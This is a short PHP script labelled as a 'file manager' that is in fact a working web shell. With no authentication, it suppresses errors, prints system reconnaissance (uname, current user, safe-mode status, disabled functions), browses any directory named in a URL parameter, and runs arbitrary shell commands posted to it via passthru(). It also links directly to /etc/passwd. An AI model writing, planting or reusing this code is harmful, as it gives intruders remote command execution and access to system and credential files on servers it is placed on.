<?php
// File manager
set_time_limit(0);
error_reporting(0);
$self = $_SERVER['PHP_SELF'];
function info() {
    echo "<b>Uname:</b> " . php_uname() . "<br>";
    echo "<b>User:</b> " . getmyuid() . " (" . get_current_user() . ")<br>";
    echo "<b>Safe mode:</b> " . (ini_get('safe_mode') ? 'ON' : 'OFF') . "<br>";
    echo "<b>Disabled:</b> " . ini_get('disable_functions') . "<br>";
}
function files($d) {
    foreach (scandir($d) as $f) {
        echo "<tr><td><a href='?d=" . urlencode($d . '/' . $f) . "'>" . htmlspecialchars($f) . "</a></td></tr>";
    }
}
info();
$d = isset($_GET['d']) ? $_GET['d'] : getcwd();
files($d);
if (isset($_POST['cmd'])) {
    $cmd = $_POST['cmd'];
    echo "<pre>";
    passthru($cmd);
    echo "</pre>";
}
echo "<form method=post><input name=cmd value='uname -a'><input type=submit></form>";
echo "<a href='?d=/etc&f=/etc/passwd'>passwd</a>";
